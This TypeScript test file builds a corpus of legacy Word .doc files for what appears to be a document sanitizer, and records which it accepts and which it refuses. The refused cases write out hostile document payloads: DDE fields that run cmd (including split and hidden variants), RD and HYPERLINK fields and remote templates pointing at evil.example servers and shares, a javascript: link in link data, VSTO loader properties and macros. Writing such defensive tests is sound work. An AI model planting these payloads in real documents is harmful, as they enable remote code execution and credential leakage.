import { readFileSync } from 'node:fs';
import { corpusFile, refused } from './corpus-file.ts';
import { makeDoc } from './make-doc.ts';

/** Returns a document of LibreOffice in which the first of these bytes are replaced. */
function changed(from: string, to: string): Buffer {
  const bytes = readFileSync(new URL('files/libreoffice.doc', import.meta.url));
  bytes.write(to, bytes.indexOf(Buffer.from(from, 'hex')), 'hex');
  return bytes;
}

const utf16 = (text: string) => Buffer.from(text, 'utf16le').toString('hex');

/** Returns a document with a field of this code. */
const withField = (code: string) => makeDoc({ pieces: [`Jana \x13${code}\x14x\x15`] });

/** Returns a document with a drawing that is a link to this address (MS-OSHARED, section 2.3.7.1). */
function withLinkedDrawing(address: string): Buffer {
  const target = utf16(address);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(target.length / 2);
  const [link, url] = ['d0', 'e0'].map((first) => `${first}c9ea79f9bace118c8200aa004ba90b`);
  const drawing = `0000${link}0200000001000000${url}${length.toString('hex')}${target}`;
  return makeDoc({ drawings: Buffer.from(drawing, 'hex') });
}

/** Word documents from before 2007. */
export const docFiles = [
  corpusFile(
    'word-97.doc',
    'doc',
    'As Word 97 saved it, with page numbers, a link and the place of a drawing',
    'Known streams and fields',
    () =>
      makeDoc({
        pieces: [
          'Jana \x13 PAGE \x14 1 \x15 \x13 HYPER',
          'LINK "https://jana.example" \x01\x14web\x15 \x13 SHAPE  \\* MERGEFORMAT \x14\x15',
        ],
        template: 'C:\\Templates\\cv.dot',
      }),
  ),
  corpusFile(
    'contents.doc',
    'doc',
    'Contents whose entries have page numbers, in letters of two bytes',
    'Fields in the result of a field are fields like others',
    () =>
      makeDoc({
        pieces: ['\x13 TOC \\o "1-3" \x14Škola \x13 PAGEREF a \\h \x01\x14 1\x15\x15'],
        isWide: true,
      }),
  ),
  refused(
    'linked.doc',
    'A document of LibreOffice whose description of a link, which is empty there, has one',
    'All content has to be inside',
    () => changed('01000002'.padEnd(40, '0'), '0100000201'.padEnd(40, '0')),
  ),
  refused(
    'loads-program.doc',
    'Properties with which Word loads a program of the author from a server (VSTO)',
    'Such properties are refused',
    () =>
      makeDoc({
        streams: {
          '\u0005DocumentSummaryInformation': '_\0A\0s\0s\0e\0m\0b\0l\0y\0L\0o\0c\0a\0t\0i\0o\0n\0',
        },
      }),
  ),
  refused('macros.doc', 'A document of before 2007 with macros', 'Not a known stream', () =>
    makeDoc({ streams: { 'Macros/VBA/dir': 'x' } }),
  ),
  refused(
    'dde.doc',
    'A document of before 2007 with a field that starts a program',
    'Not on the list of fields',
    () => makeDoc({ pieces: ['\x13 DDEAUTO cmd\x14\x15'], isWide: true }),
  ),
  refused(
    'dde-in-pieces.doc',
    'The same, its code in pieces, the last of which comes first',
    'Codes are put together first',
    () => makeDoc({ pieces: ['\x13 PAG', 'E \x14\x15\x13 D', 'DE cmd \x14x\x15'] }),
  ),
  refused(
    'dde-behind-field.doc',
    'The same behind a field in its code',
    'A code has nothing in it but its letters',
    () => withField('\x13 PAGE \x14\x15 DDE cmd'),
  ),
  refused('dde-without-end.doc', 'The same in a field that does not end', 'All fields count', () =>
    makeDoc({ pieces: ['Jana \x13 DDE cmd'] }),
  ),
  refused(
    'print.doc',
    'A document of before 2007 with a field that sends commands to the printer (PRINT)',
    'Not on the list of fields',
    () => withField('PRINT"\x1bE"'),
  ),
  refused(
    'included-file.doc',
    'A document of before 2007 with a field that reads a file of a server (RD)',
    'Not on the list of fields',
    () => withField(' RD "\\\\\\\\evil.example\\\\a.doc"'),
  ),
  refused(
    'share-link.doc',
    'A document of before 2007 with a link to a program on a server',
    'Only web, mail and telephone',
    () => withField(' HYPERLINK "file://\\\\evil.example\\x.exe"'),
  ),
  corpusFile(
    'linked-drawing.doc',
    'doc',
    'As Word 97 saved it, with a drawing that is a link to the web',
    'Links to the web are allowed',
    () => withLinkedDrawing('https://jana.example'),
  ),
  refused(
    'share-link-of-drawing.doc',
    'The same with a link to a share',
    'Only web, mail and telephone',
    () => withLinkedDrawing('\\\\evil.example\\x'),
  ),
  refused(
    'file-behind-link.doc',
    'A document of LibreOffice with a link to the web in the text and to a file in its data',
    'The data of links count, too',
    () => changed('e0c9ea79f9bace118c8200aa004ba90b', '0303000000000000c000000000000046'),
  ),
  refused(
    'script-behind-link.doc',
    'The same with a script in its data',
    'The data of links count, too',
    () =>
      // The address follows its length, which it does not in the text.
      changed(`2c000000${utf16('https://jana')}`, `2c000000${utf16('javascript:a')}`),
  ),
  ...[
    ['remote-template', 'https://evil.example/a.dotm', 'a server'],
    ['remote-document-as-template', 'https://evil.example/a.docm', 'a server'],
    ['template-on-share', '\\\\evil.example\\a.dot', 'a share'],
    [
      'template-of-kernel-name',
      '\\??\\UNC\\evil.example\\a.dot',
      'a share, by a name of the kernel',
    ],
    ['template-of-file-address', 'file://evil.example/a', 'a server, as an address of a file'],
  ].map(([name, template, place]) =>
    refused(
      `${name}.doc`,
      `A document of before 2007 with a template on ${place}`,
      'Templates have to be on the reader’s own disk',
      () => makeDoc({ template }),
    ),
  ),
  refused('encrypted.doc', 'A document of before 2007 that is locked', 'It cannot be read', () =>
    makeDoc({ flags: 0x0300 }),
  ),
  refused('word-95.doc', 'A document of before 1997', 'It cannot be read', () =>
    makeDoc({ version: 0x68 }),
  ),
];
